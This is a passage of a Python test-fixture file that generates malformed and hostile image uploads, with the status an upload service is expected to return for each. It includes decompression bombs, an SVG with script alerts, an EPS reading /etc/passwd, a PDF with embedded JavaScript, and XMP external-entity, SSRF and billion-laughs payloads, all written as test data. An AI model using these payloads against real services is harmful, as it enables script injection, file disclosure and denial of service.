    return riff([vp8x(chunks[0][1][0], 16384, 16384), *chunks[1:]])


def webp_lossless_header_bomb() -> bytes:
    """A VP8L header declaring 16384 x 16384, with a few bytes of bitstream."""
    bits = (16384 - 1) | ((16384 - 1) << 14)
    header = b"\x2f" + struct.pack("<I", bits)
    return riff([(b"VP8L", header + b"\0" * 11)])


def webp_many_frames() -> bytes:
    frames = [Image.new("RGB", (8, 8), (i % 256, i // 256 % 256, 9)) for i in range(3000)]
    return save(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=20,
                lossless=True)  # fmt: skip


def webp_garbage_chunks() -> bytes:
    """Garbage EXIF and ICCP chunks (VP8X flags announce both)."""
    chunks = webp_chunks(save(pic(93, 64), "WEBP", quality=80))
    return riff([vp8x(0x28, 93, 64), (b"ICCP", garbage(700, 5)), *chunks,
                 (b"EXIF", b"II*\0" + garbage(300, 6))])  # fmt: skip


def webp_xmp_xxe() -> bytes:
    return save(pic(94, 64), "WEBP", quality=80, xmp=photos.XMP_EXTERNAL_ENTITY)


# ---------------------------------------------------------------- GIF


def gif(width: int, height: int) -> bytes:
    return save(pic(width, height).convert("P"), "GIF")


def gif_truncated() -> bytes:
    return cut(gif(90, 64), 0.5)


def gif_declared_bomb() -> bytes:
    """Logical screen and one frame of 65535 x 65535, two bytes of LZW data."""
    screen = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\x00"
    return screen + frame + b"\x3b"


def gif_frame_outside_screen() -> bytes:
    """A 10 x 10 screen whose first frame sits at (60000, 60000) and is 5000 x 5000."""
    screen = b"GIF89a" + struct.pack("<HHBBB", 10, 10, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 60000, 60000, 5000, 5000, 0) + b"\x02\x02\x44\x01\x00"
    return screen + frame + b"\x3b"


def gif_lzw_garbage() -> bytes:
    data = bytearray(gif(91, 64))
    at = data.index(b"\x2c") + 10 + 1 + 1  # descriptor, LZW code size, first sub-block length
    data[at : at + 200] = garbage(200, 7)
    return bytes(data)


def gif_many_frames() -> bytes:
    frames = [Image.new("P", (8, 8), i % 256) for i in range(5000)]
    for index, frame in enumerate(frames):
        frame.putpixel((index % 8, index // 8 % 8), (index + 1) % 256)
    return save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=20)


def gif_polyglot_zip() -> bytes:
    return gif(92, 64) + zip_archive()


# ---------------------------------------------------------------- the rest


def avif_truncated() -> bytes:
    return cut(photos.avif(64, 48), 0.5)


SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
PSD = b"8BPS\0\x01" + b"\0" * 6 + struct.pack(">HIIHH", 3, 64, 64, 8, 3) + b"\0" * 64


def bmp() -> bytes:
    return save(pic(64, 48), "BMP")


def jpeg2000() -> bytes:
    return save(pic(64, 48), "JPEG2000")


def text_jpeg(width: int) -> Callable[[], bytes]:
    return lambda: jpeg(width, 61)


# ---------------------------------------------------------------- issue 11: incomplete data


def png_chunk_list(data: bytes) -> list[tuple[bytes, bytes]]:
    """The (type, data) of each chunk of a PNG."""
    chunks, at = [], 8
    while at + 8 <= len(data):
        (length,) = struct.unpack(">I", data[at : at + 4])
        chunks.append((data[at + 4 : at + 8], data[at + 8 : at + 8 + length]))
        at += 12 + length
    return chunks


def png_join(chunks: Sequence[tuple[bytes, bytes]]) -> bytes:
    """A PNG of these chunks, each with its right CRC."""
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(kind, body) for kind, body in chunks)


def png_rows(width: int, height: int) -> tuple[bytes, bytes]:
    """(IHDR body, the filtered rows) of the RGB picture, as Pillow writes them."""
    chunks = dict(png_chunk_list(png(width, height)))
    return chunks[b"IHDR"], zlib.decompress(chunks[b"IDAT"])


def with_idat(width: int, height: int, idat: bytes) -> bytes:
    ihdr, _ = png_rows(width, height)
    return png_join([(b"IHDR", ihdr), (b"IDAT", idat), (b"IEND", b"")])


def bad_crc(data: bytes, kind: bytes, occurrence: int = 0) -> bytes:
    """The PNG with the CRC of its ``occurrence``-th ``kind`` chunk wrong (data untouched)."""
    at, seen = 8, 0
    while True:
        (length,) = struct.unpack(">I", data[at : at + 4])
        if data[at + 4 : at + 8] == kind:
            if seen == occurrence:
                end = at + 8 + length
                return data[:end] + bytes(b ^ 0xFF for b in data[end : end + 4]) + data[end + 4 :]
            seen += 1
        at += 12 + length


def png_idat_bad_crc() -> bytes:
    return bad_crc(png(60, 40), b"IDAT")


def png_text_after_idat_bad_crc() -> bytes:
    """An ancillary tEXt chunk after the image data whose CRC is wrong (Pillow never checks)."""
    chunks = png_chunk_list(png(61, 40))
    chunks.insert(-1, (b"tEXt", b"Comment\0written after the pixels"))
    return bad_crc(png_join(chunks), b"tEXt")


def png_plte_bad_crc() -> bytes:
    return bad_crc(save(pic(62, 40).convert("P"), "PNG"), b"PLTE")


def png_zlib_garbage() -> bytes:
    """The deflate stream overwritten in its middle by random bytes; every CRC right."""
    _, rows = png_rows(63, 40)
    stream = bytearray(zlib.compress(rows, 9))
    stream[len(stream) // 2 : len(stream) // 2 + 24] = garbage(24, 11)
    return with_idat(63, 40, bytes(stream))


def png_zlib_bad_checksum() -> bytes:
    """Every row there, but the zlib stream's Adler-32 is wrong."""
    _, rows = png_rows(64, 40)
    stream = bytearray(zlib.compress(rows, 9))
    stream[-1] ^= 0xFF
    return with_idat(64, 40, bytes(stream))


def png_rows_short() -> bytes:
    """A whole, valid zlib stream holding only the first half of the rows (Pillow: black)."""
    _, rows = png_rows(65, 40)
    return with_idat(65, 40, zlib.compress(rows[: len(rows) // 2], 9))


def png_zlib_cut() -> bytes:
    """The zlib stream cut in half, the file otherwise whole (IEND, right CRCs)."""
    _, rows = png_rows(66, 40)
    stream = zlib.compress(rows, 9)
    return with_idat(66, 40, stream[: len(stream) // 2])


def png_bad_filter() -> bytes:
    _, rows = png_rows(67, 40)
    broken = bytearray(rows)
    broken[(len(rows) // 40) * 20] = 7  # row 20's filter type
    return with_idat(67, 40, zlib.compress(bytes(broken), 9))


def png_no_iend() -> bytes:
    return png(68, 40)[:-12]


def png_idat_split() -> bytes:
    """Two IDAT chunks with a tEXt chunk between them."""
    _, rows = png_rows(69, 40)
    stream = zlib.compress(rows, 9)
    ihdr, _ = png_rows(69, 40)
    half = len(stream) // 2
    return png_join([(b"IHDR", ihdr), (b"IDAT", stream[:half]), (b"tEXt", b"Comment\0between"),
                     (b"IDAT", stream[half:]), (b"IEND", b"")])  # fmt: skip


def apng(width: int = 40, height: int = 30, frames: int = 3) -> bytes:
    images = [pic(width, height).rotate(i * 90) for i in range(frames)]
    return save(images[0], "PNG", save_all=True, append_images=images[1:], duration=100)


def apng_changed(change: Callable[[list[tuple[bytes, bytes]]], None]) -> Callable[[], bytes]:
    def build() -> bytes:
        chunks = png_chunk_list(apng())
        change(chunks)
        return png_join(chunks)

    return build


def _short_fctl(chunks: list[tuple[bytes, bytes]]) -> None:
    at = [kind for kind, _ in chunks].index(b"fcTL")
    chunks[at] = (b"fcTL", chunks[at][1][:20])


def _fdat_out_of_sequence(chunks: list[tuple[bytes, bytes]]) -> None:
    at = [kind for kind, _ in chunks].index(b"fdAT")
    body = chunks[at][1]
    chunks[at] = (b"fdAT", struct.pack(">I", struct.unpack(">I", body[:4])[0] + 5) + body[4:])


def _frame_missing(chunks: list[tuple[bytes, bytes]]) -> None:
    last = max(i for i, (kind, _) in enumerate(chunks) if kind == b"fcTL")
    del chunks[last:-1]  # the last fcTL and its fdAT; IEND stays


def _fdat_rows_short(chunks: list[tuple[bytes, bytes]]) -> None:
    at = max(i for i, (kind, _) in enumerate(chunks) if kind == b"fdAT")
    body = chunks[at][1]
    rows = zlib.decompress(body[4:])
    chunks[at] = (b"fdAT", body[:4] + zlib.compress(rows[: len(rows) // 3]))


def png_transparent_key(mode: str, key: int | tuple[int, int, int], width: int) -> bytes:
    """A PNG whose tRNS chunk makes one colour transparent (no alpha channel)."""
    image = pic(width, 40, "RGB" if mode == "RGB" else "L")
    if mode == "I;16":
        image = image.point(lambda v: v * 257, "I").convert("I;16")
    if mode == "RGB":
        image.paste((0, 255, 0), (0, 0, width // 2, 20))  # a green key colour in a corner
    else:
        image.paste(key, (0, 0, width // 2, 20))
    return save(image, "PNG", transparency=key)


def png_144_megapixels() -> bytes:
    """12000 x 12000 8-bit RGB, all rows stored: 432 MB of pixel rows deflated to ~420 KB."""
    width = height = 12000
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return png_join([(b"IHDR", ihdr), (b"IDAT", deflated_zeros((1 + 3 * width) * height)),
                     (b"IEND", b"")])  # fmt: skip


def jpeg_eoi_padded(progressive: bool = False) -> Callable[[], bytes]:
    """A JPEG cut halfway through its scan data, an EOI marker appended: libjpeg fills the
    rest with grey and only warns; Pillow shows no error."""

    def build() -> bytes:
        data = save(pic(150 + progressive, 100), "JPEG", quality=90, progressive=progressive)
        scan = data.index(b"\xff\xda")
        return data[: scan + (len(data) - scan) // 2] + b"\xff\xd9"

    return build


TIFF_TYPES = {1: 1, 2: 1, 3: 2, 4: 4, 5: 8, 7: 1, 12: 8}


def tiff_ifd_first(data: bytes, short_by: int = 0) -> bytes:
    """Pillow's little-endian single-page TIFF laid out again with its IFD first and its strips
    last (Pillow writes the IFD of a compressed TIFF after the pixels, so cutting the file cuts
    the IFD), the last strip ``short_by`` bytes shorter, its byte count saying so."""
    assert data[:4] == b"II*\0"
    (at,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, at)
    entries = []
    for index in range(count):
        tag, kind, number, raw = struct.unpack_from("<HHI4s", data, at + 2 + 12 * index)
        size = TIFF_TYPES[kind] * number
        offset = struct.unpack("<I", raw)[0]
        entries.append(
            [tag, kind, number, raw[:size] if size <= 4 else data[offset : offset + size]]
        )
    tags = {entry[0]: entry for entry in entries}
    offsets = struct.unpack(f"<{tags[273][2]}I", tags[273][3])
    counts = list(struct.unpack(f"<{tags[279][2]}I", tags[279][3]))
    strips = [data[o : o + c] for o, c in zip(offsets, counts, strict=True)]
    strips[-1] = strips[-1][: len(strips[-1]) - short_by]
    counts[-1] -= short_by
    tags[279][1], tags[279][3] = LONG, struct.pack(f"<{len(counts)}I", *counts)
    tags[273][1] = LONG

    def layout(pixels_at: int) -> bytes:
        starts, position = [], pixels_at
        for strip in strips:
            starts.append(position)
            position += len(strip)
        tags[273][3] = struct.pack(f"<{len(starts)}I", *starts)
        values_at = 8 + 2 + 12 * count + 4
        body, values = b"", b""
        for tag, kind, number, value in sorted(entries):
            if len(value) <= 4:
                body += struct.pack("<HHI", tag, kind, number) + value.ljust(4, b"\0")
            else:
                body += struct.pack("<HHII", tag, kind, number, values_at + len(values))
                values += value + b"\0" * (len(value) % 2)
        return b"II*\0" + u32(8) + u16(count) + body + u32(0) + values

    head = layout(0)
    return layout(len(head)) + b"".join(strips)


def tiff_strip_short(compression: str) -> Callable[[], bytes]:
    return lambda: tiff_ifd_first(tiff(70, 48, compression=compression), short_by=300)


def tiff_tile_past_end() -> bytes:
    """A 32 x 32 grey TIFF in four 16 x 16 tiles after its IFD, the last tile cut short."""
    tiles = [pic(32, 32, "L").crop((x, y, x + 16, y + 16)).tobytes()
             for y in (0, 16) for x in (0, 16)]  # fmt: skip
    tags = [
        (256, LONG, 1, u32(32)), (257, LONG, 1, u32(32)), (258, SHORT, 1, u16(8)),
        (259, SHORT, 1, u16(1)), (262, SHORT, 1, u16(1)), (277, SHORT, 1, u16(1)),
        (322, SHORT, 1, u16(16)), (323, SHORT, 1, u16(16)),
    ]  # fmt: skip
    values_at = 8 + 2 + 12 * (len(tags) + 2) + 4
    pixels_at = values_at + 32
    tags += [(324, LONG, 4, u32(values_at)), (325, LONG, 4, u32(values_at + 16))]
    values = struct.pack("<4I", *[pixels_at + 256 * i for i in range(4)])
    values += struct.pack("<4I", *[256] * 4)
    return b"II*\0" + u32(8) + ifd(sorted(tags), 0) + values + b"".join(tiles)[:-100]


def tiff_signed(bits: int) -> bytes:
    """Grey samples as signed integers (SampleFormat 2): the picture's 0..255 as -128..127
    (8-bit) or -32768..32767 (16-bit, value * 257 - 32768), so 0 is mid-grey."""
    width, height = 44 + bits // 8, 32
    grey = pic(width, height, "L").tobytes()
    if bits == 8:
        samples = struct.pack(f"<{len(grey)}b", *(v - 128 for v in grey))
    else:
        samples = struct.pack(f"<{len(grey)}h", *(v * 257 - 32768 for v in grey))
    page = grey_page(width, height, len(samples), bits=bits, extra=[(339, SHORT, 1, u16(2))])
    return tiff_pages([page], [samples])


def tiff_foreign_compression(compression: int) -> Callable[[], bytes]:
    """A grey TIFF whose compression this installation has no decoder for; the strip is a
    few bytes of stand-in data (the check comes before any is decoded)."""

    def build() -> bytes:
        strip = garbage(64, compression)
        return tiff_pages([grey_page(46, 32, len(strip), compression=compression)], [strip])

    return build


def webp_vp8_short() -> bytes:
    """A lossy WebP whose VP8 data is cut by a third, the RIFF and chunk sizes made to agree."""
    chunks = webp_chunks(save(pic(95, 64), "WEBP", quality=80))
    kind, payload = chunks[-1]
    return riff([*chunks[:-1], (kind, payload[: len(payload) * 2 // 3])])


def gif_later_frame_cut() -> bytes:
    """A three-frame GIF whose last frame's LZW data is cut, a block end and trailer added."""
    frames = [pic(50, 40).rotate(i * 90).convert("P") for i in range(3)]
    data = save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100)
    last = data.rindex(b"\x2c")
    return data[: last + (len(data) - last) // 2] + b"\x00\x3b"


# ---------------------------------------------------------------- issue 11: orientation, EXIF

TURNS = {2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180,
         4: Image.Transpose.FLIP_TOP_BOTTOM, 5: Image.Transpose.TRANSPOSE,
         6: Image.Transpose.ROTATE_270, 7: Image.Transpose.TRANSVERSE,
         8: Image.Transpose.ROTATE_90}  # fmt: skip


def oriented(fmt: str, orientation: int, width: int, height: int = 40) -> Callable[[], bytes]:
    """The picture stored as it came off the sensor, with EXIF saying how to turn it."""

    def build() -> bytes:
        exif = photos.make_exif(orientation=orientation, gps=None)
        params: dict[str, object] = {"exif": exif}
        if fmt == "TIFF":
            info = TiffImagePlugin.ImageFileDirectory_v2()
            info[274] = orientation
            params = {"tiffinfo": info, "compression": "tiff_lzw"}
        elif fmt == "AVIF":
            params |= {"quality": 70, "speed": 10}
        elif fmt in ("JPEG", "WEBP"):
            params |= {"quality": 90}
        return save(pic(width, height), fmt, **params)

    return build


def png_exif_chunk(orientation: int, width: int, *, after_idat: bool) -> Callable[[], bytes]:
    """A PNG with camera EXIF (rights, GPS, orientation) in an eXIf chunk."""

    def build() -> bytes:
        tiff = photos.make_exif(orientation=orientation).tobytes()[6:]  # no "Exif\0\0"
        chunks = png_chunk_list(png(width, 40))
        chunks.insert(-1 if after_idat else 1, (b"eXIf", tiff))
        return png_join(chunks)

    return build


def png_raw_profile(orientation: int, width: int, kind: bytes) -> Callable[[], bytes]:
    """ImageMagick's way: EXIF (with its "Exif\\0\\0" prefix) hex-encoded in a "Raw profile
    type exif" text chunk: "\\nexif\\n   <length>\\n" then lines of 72 hex digits."""

    def build() -> bytes:
        payload = photos.make_exif(orientation=orientation).tobytes()  # "Exif\0\0" + TIFF
        hexed = payload.hex()
        lines = "\n".join(hexed[i : i + 72] for i in range(0, len(hexed), 72))
        text = f"\nexif\n{len(payload):8d}\n{lines}\n".encode("latin-1")
        key = b"Raw profile type exif\0"
        body = {b"zTXt": key + b"\0" + zlib.compress(text), b"tEXt": key + text,
                b"iTXt": key + b"\1\0\0\0" + zlib.compress(text)}[kind]  # fmt: skip
        chunks = png_chunk_list(png(width, 40))
        chunks.insert(1, (kind, body))
        return png_join(chunks)

    return build


def exif_broken(change: str, width: int) -> Callable[[], bytes]:
    """Camera EXIF (tests.support.photos.make_exif) with one hostile change, in a JPEG that keeps its
    JFIF segment (Pillow takes the resolution from there, as from most JPEGs)."""

    def build() -> bytes:
        tiff = bytearray(photos.make_exif(orientation=6).tobytes()[6:])  # big-endian (MM)
        entries = _mm_entries(bytes(tiff))
        if change == "ascii-pointer":  # ExifOffset as a string where an offset should be
            at = entries[0x8769]
            tiff[at + 2 : at + 8] = struct.pack(">HI", ASCII, 4)
        elif change == "empty-orientation":  # Orientation with no values at all
            at = entries[0x0112]
            tiff[at + 4 : at + 8] = struct.pack(">I", 0)
        elif change == "gps-wrong-types":  # latitude as ASCII, its reference as a SHORT
            gps = _mm_entries(
                bytes(tiff),
                struct.unpack(">I", tiff[entries[0x8825] + 8 : entries[0x8825] + 12])[0],
            )
            tiff[gps[0x0002] + 2 : gps[0x0002] + 4] = struct.pack(">H", ASCII)
            tiff[gps[0x0001] + 2 : gps[0x0001] + 4] = struct.pack(">H", SHORT)
        elif change == "self-pointer":  # the Exif IFD pointer names IFD0 itself
            at = entries[0x8769]
            tiff[at + 8 : at + 12] = struct.pack(">I", 8)
        elif change == "wrong-byte-order":
            tiff[:4] = b"IM*\0"
        elif change == "zero-length-maker-note":
            tiff = bytearray(_with_zero_maker_note())
        return spliced(jpeg(width, 60), exif_segment(bytes(tiff)))

    return build


def _mm_entries(tiff: bytes, at: int | None = None) -> dict[int, int]:
    """Where each entry of a big-endian IFD (IFD0 by default) starts, by tag."""
    if at is None:
        (at,) = struct.unpack(">I", tiff[4:8])
    (count,) = struct.unpack(">H", tiff[at : at + 2])
    return {struct.unpack(">H", tiff[at + 2 + 12 * i : at + 4 + 12 * i])[0]: at + 2 + 12 * i
            for i in range(count)}  # fmt: skip


def _with_zero_maker_note() -> bytes:
    exif = photos.make_exif(orientation=6)
    exif.get_ifd(0x8769)[0x927C] = b"\0"  # MakerNote: one byte, then its count set to 0
    tiff = bytearray(exif.tobytes()[6:])
    sub = struct.unpack(">I", tiff[_mm_entries(bytes(tiff))[0x8769] + 8 :][:4])[0]
    note = _mm_entries(bytes(tiff), sub)[0x927C]
    tiff[note + 4 : note + 8] = struct.pack(">I", 0)
    return bytes(tiff)


# ---------------------------------------------------------------- the corpus

JPEG, PNG, TIFF, WEBP, GIF = "image/jpeg", "image/png", "image/tiff", "image/webp", "image/gif"
LONG_NAME = ("Hoa Hakananaiʻa — moai from Orongo, Rapa Nui 🗿 " * 120)[:5000] + ".jpg"

# fmt: off
CORPUS: tuple[Entry, ...] = (
    # --- empty and not an image at all
    Entry("empty.jpg", "empty", "zero bytes", lambda: b"", 422, "invalid-input", subset=True),
    Entry("one-byte.jpg", "empty", "the single byte 0xFF", lambda: b"\xff", 415,
          "unsupported-media-type"),
    Entry("jpeg-magic-only.jpg", "truncated", "the three bytes FF D8 FF", lambda: b"\xff\xd8\xff",
          422, "unreadable-image"),
    Entry("svg-script.jpg", "polyglot", "SVG with onload and <script>, named .jpg",
          lambda: SVG_SCRIPT, 415, "unsupported-media-type", subset=True),
    Entry("html-then-jpeg.jpg", "polyglot", "an HTML page with a JPEG after it",
          html_then_jpeg, 415, "unsupported-media-type"),
    Entry("zip.jpg", "polyglot", "a ZIP archive holding a script, named .jpg", zip_archive,
          415, "unsupported-media-type"),
    Entry("eps.jpg", "not an image", "EPS that reads /etc/passwd (Pillow would run Ghostscript)",
          lambda: EPS, 415, "unsupported-media-type"),
    Entry("pdf-javascript.png", "not an image", "PDF with an OpenAction script", lambda: PDF,
          415, "unsupported-media-type"),
    Entry("photoshop.psd", "not an image", "a PSD header", lambda: PSD, 415,
          "unsupported-media-type"),
    Entry("bitmap.bmp", "not an image", "a BMP by Pillow (readable, not accepted)", bmp, 415,
          "unsupported-media-type"),
    Entry("jpeg2000.jp2", "not an image", "a JPEG 2000 by Pillow (readable, not accepted)",
          jpeg2000, 415, "unsupported-media-type"),
    Entry("bigtiff.tif", "not an image", "a BigTIFF header (II+)", bigtiff, 415,
          "unsupported-media-type"),
    # --- JPEG: truncated and corrupt
    Entry("jpeg-truncated-header.jpg", "truncated", "the first 300 bytes of a JPEG",
          jpeg_truncated_header, 422, "unreadable-image"),
    Entry("jpeg-truncated-scan.jpg", "truncated", "a JPEG cut a third into its scan",
          jpeg_truncated_scan, 422, "unreadable-image", subset=True),
    Entry("jpeg-no-eoi.jpg", "truncated",
          "a whole JPEG but its final EOI marker (LOAD_TRUNCATED_IMAGES stays off)",
          jpeg_no_eoi, 422, "unreadable-image"),
    Entry("jpeg-corrupt-scan.jpg", "corrupt",
          "64 random bytes over the middle of the scan: libjpeg decodes it with a warning",
          jpeg_corrupt_scan, size=(93, 60), media_type=JPEG),
    Entry("jpeg-bad-huffman.jpg", "corrupt", "a DHT segment whose code counts overflow",
          jpeg_bad_huffman_table, 422, "unreadable-image", subset=True),
    # --- JPEG: bombs
    Entry("jpeg-sof-65500x65500.jpg", "bomb", "a 96x60 JPEG whose SOF0 declares 65500x65500",
          jpeg_sof_bomb, 413, "too-many-pixels", subset=True),
    Entry("jpeg-sof-20000x10000.jpg", "bomb",
          "SOF0 declares 200 Mpx: over the 150 Mpx limit, under Pillow's own error",
          jpeg_sof_over_limit, 413, "too-many-pixels"),
    Entry("jpeg-3000-scans.jpg", "bomb", "a 4096x4096 progressive JPEG repeating one AC scan "
          "3000 times (a scan bomb: minutes to decode)", jpeg_scan_bomb, 422, "unreadable-image",
          subset=True),
    Entry("jpeg-progressive.jpg", "bomb", "an ordinary progressive JPEG (control for the "
          "scan limit)", jpeg_progressive, size=(129, 60), media_type=JPEG,
          pixels=shows(129, 60)),
    Entry("jpeg-sof-zero-height.jpg", "corrupt", "SOF0 declares a height of 0",
          jpeg_sof_zero_height, 422, "unreadable-image"),
    # --- JPEG: EXIF
    Entry("exif-bad-offsets.jpg", "exif", "tests.support.photos.malformed_exif_block: offsets past "
          "the end, a 4 G count, a dangling next IFD", jpeg_exif_bad_offsets,
          size=(98, 60), media_type=JPEG),
    Entry("exif-ifd-loop.jpg", "exif", "no JFIF; IFD0's Exif and GPS pointers point at IFD0, "
          "IFD1's next pointer back at IFD0", jpeg_exif_ifd_loop, size=(99, 60),
          media_type=JPEG, subset=True,
          pixels=shows(99, 60)),
    Entry("exif-huge-counts.jpg", "exif", "no JFIF (so Pillow reads DPI from EXIF); counts of "
          "2^29 to 2^32, unknown types, a 0/0 resolution", jpeg_exif_huge_counts,
          size=(100, 60), media_type=JPEG),
    Entry("exif-oversized.jpg", "exif", "a full 64 KB APP1: 5000 IFD0 entries",
          jpeg_exif_oversized, size=(101, 60), media_type=JPEG),
    Entry("exif-not-tiff.jpg", "exif", "an Exif APP1 holding 400 random bytes",
          jpeg_exif_not_tiff, size=(102, 60), media_type=JPEG),
    # --- JPEG: IPTC
    Entry("iptc-bad-length.jpg", "iptc", "an IIM dataset declaring 32767 bytes with 30 left",
          jpeg_iptc_bad_lengths, size=(103, 60), media_type=JPEG, subset=True),
    Entry("iptc-extended-length.jpg", "iptc", "IIM extended lengths of 4 GB and of 127 bytes",
          jpeg_iptc_extended_length, size=(104, 60), media_type=JPEG),
    Entry("iptc-bad-marker.jpg", "iptc", "an IIM dataset with tag marker 0x1D",
          jpeg_iptc_bad_marker, size=(105, 60), media_type=JPEG),
    Entry("iptc-8bim-lying-size.jpg", "iptc", "a Photoshop 8BIM resource declaring 4 GB",
          jpeg_8bim_lying_size, size=(106, 60), media_type=JPEG),
    Entry("iptc-5000-keywords.jpg", "iptc", "5000 IIM 2:25 Keywords datasets",
          jpeg_iptc_many_keywords, size=(107, 60), media_type=JPEG),
    # --- XMP
    Entry("xmp-xxe-file.jpg", "xmp", "XMP with an external entity reading /etc/passwd",
          jpeg_xmp(photos.XMP_EXTERNAL_ENTITY, 108), 422, "unsafe-metadata", subset=True),
    Entry("xmp-xxe-ssrf.png", "xmp", "PNG iTXt XMP with an external entity on the cloud "
          "metadata address", png_xmp(XMP_SSRF, 102), 422, "unsafe-metadata"),
    Entry("xmp-billion-laughs.jpg", "xmp", "XMP with nested entity expansion (10^9 'lol's)",
          jpeg_xmp(photos.XMP_BILLION_LAUGHS, 109), 422, "unsafe-metadata"),
    Entry("xmp-quadratic-blowup.jpg", "xmp", "XMP using one 8000-char entity 4000 times",
          jpeg_xmp(XMP_QUADRATIC, 110), 422, "unsafe-metadata"),
    Entry("xmp-parameter-entity.tif", "xmp", "TIFF tag 700 XMP with an external parameter "
          "entity", tiff_with_blocks(40, xmp_packet=XMP_PARAMETER_ENTITY), 422,
          "unsafe-metadata"),
    Entry("xmp-xxe.webp", "xmp", "WebP XMP chunk with an external entity", webp_xmp_xxe, 422,
          "unsafe-metadata"),
    Entry("xmp-deep-nesting.jpg", "xmp", "XMP nesting 9000 elements deep",
          jpeg_xmp(XMP_DEEP, 111), size=(111, 60), media_type=JPEG),
    Entry("xmp-not-xml.jpg", "xmp", "an XMP segment that is not well-formed XML",
          jpeg_xmp(XMP_NOT_XML, 119), size=(119, 60), media_type=JPEG),
    Entry("xmp-huge.png", "xmp", "compressed iTXt XMP of about 900 KB: 15000 keywords, 2000 "
          "properties and a 200,000-char description",
          png_xmp(XMP_MANY_ITEMS, 103, compressed=True), size=(103, 64), media_type=PNG),
    Entry("xmp-over-1mb.png", "bomb", "compressed iTXt XMP of 1.4 MB (Pillow caps text chunks "
          "at 1 MB)", png_xmp(XMP_OVER_1MB, 105, compressed=True), 422, "unreadable-image"),
    # --- ICC
    Entry("icc-garbage.jpg", "icc", "an ICC_PROFILE APP2 of 2000 random bytes",
          jpeg_with_icc(garbage(2000, 8), 120), size=(120, 60), media_type=JPEG, subset=True,
          pixels=shows(120, 60)),
    Entry("icc-lying-header.jpg", "icc", "an ICC header claiming 4 GB and 2^31 tags",
          jpeg_with_icc(icc_lying_header(), 121), size=(121, 60), media_type=JPEG),
    Entry("icc-bad-chunk-numbers.jpg", "icc", "an Adobe RGB profile as ICC chunk 5 of 3",
          jpeg_with_icc(photos.adobe_rgb_like_icc(), 122, seq=[(5, 3)]), size=(122, 60),
          media_type=JPEG),
    Entry("icc-lab-on-rgb.jpg", "icc", "an RGB JPEG carrying a Lab ICC profile",
          jpeg_with_icc(lab_icc(), 123), size=(123, 60), media_type=JPEG,
          pixels=shows(123, 60)),
    Entry("icc-rgb-on-cmyk.jpg", "colour space", "a CMYK JPEG carrying an RGB ICC profile",
          jpeg_with_icc(photos.adobe_rgb_like_icc(), 124, mode="CMYK"), size=(124, 60),
          media_type=JPEG, subset=True,
          pixels=shows(124, 60)),
    Entry("icc-garbage.png", "icc", "a PNG iCCP chunk of deflated random bytes",
          png_iccp_garbage, size=(93, 64), media_type=PNG),
    Entry("icc-bomb.png", "icc", "a PNG iCCP chunk inflating to 16 MB", png_iccp_bomb, 422,
          "unreadable-image"),
    Entry("icc-garbage.tif", "icc", "TIFF tag 34675 of random bytes",
          tiff_with_blocks(41, icc=garbage(900, 9)), size=(41, 32), media_type=TIFF),
    # --- CMYK and 16-bit
    Entry("cmyk.jpg", "colour space", "a CMYK JPEG by Pillow (Adobe APP14, inverted)", jpeg_cmyk,
          size=(112, 60), media_type=JPEG,
          pixels=shows(112, 60)),
    Entry("cmyk.tif", "colour space", "a CMYK TIFF by Pillow", lambda: tiff(92, 48, "CMYK"),
          size=(92, 48), media_type=TIFF,
          pixels=shows(92, 48)),
    Entry("cmyk-16bit.tif", "colour space", "a 64-bit CMYK TIFF by hand", tiff_16bit_cmyk,
          size=(37, 32), media_type=TIFF,
          pixels=shows(37, 32)),
    Entry("rgb-16bit.tif", "bit depth", "tests.support.photos.tiff_16bit: 48-bit RGB with rights",
          lambda: photos.tiff_16bit(64, 48), size=(64, 48), media_type=TIFF, subset=True),
    Entry("grey-16bit.tif", "bit depth", "16-bit grey TIFF by Pillow", tiff_16bit_grey,
          size=(91, 48), media_type=TIFF,
          pixels=shows(91, 48, "L")),
    Entry("grey-float32.tif", "bit depth", "32-bit floating-point grey TIFF by hand", tiff_float,
          415, "unsupported-media-type"),
    Entry("grey-int32.tif", "bit depth", "32-bit integer grey TIFF by hand", tiff_int32, 415,
          "unsupported-media-type"),
    Entry("lab.tif", "colour space", "a CIELab TIFF by Pillow (the picture converted by littleCMS)",
          tiff_lab, size=(93, 48), media_type=TIFF,
          pixels=shows(93, 48)),
    Entry("rgb-16bit.png", "bit depth", "48-bit RGB PNG by hand", png_16bit_rgb, size=(96, 64),
          media_type=PNG,
          pixels=shows(96, 64)),
    Entry("rgba-16bit.png", "bit depth", "64-bit RGBA PNG by hand", png_16bit_rgba,
          size=(97, 64), media_type=PNG),
    Entry("grey-16bit.png", "bit depth", "16-bit grey PNG by Pillow", png_16bit_grey,
          size=(98, 64), media_type=PNG,
          pixels=shows(98, 64, "L")),
    Entry("bilevel.png", "bit depth", "a 1-bit PNG", png_1bit, size=(99, 64), media_type=PNG),
    Entry("palette-transparent.png", "bit depth", "a palette PNG with tRNS",
          png_palette_transparency, size=(100, 64), media_type=PNG),
    # --- PNG: truncated, corrupt, bombs
    Entry("png-truncated.png", "truncated", "a PNG cut in half", png_truncated, 422,
          "unreadable-image", subset=True),
    Entry("png-bad-crc.png", "corrupt", "a PNG whose IHDR CRC is DEADBEEF", png_bad_crc, 422,
          "unreadable-image"),
    Entry("png-zero-width.png", "corrupt", "IHDR declares a width of 0", png_zero_width, 422,
          "unreadable-image"),
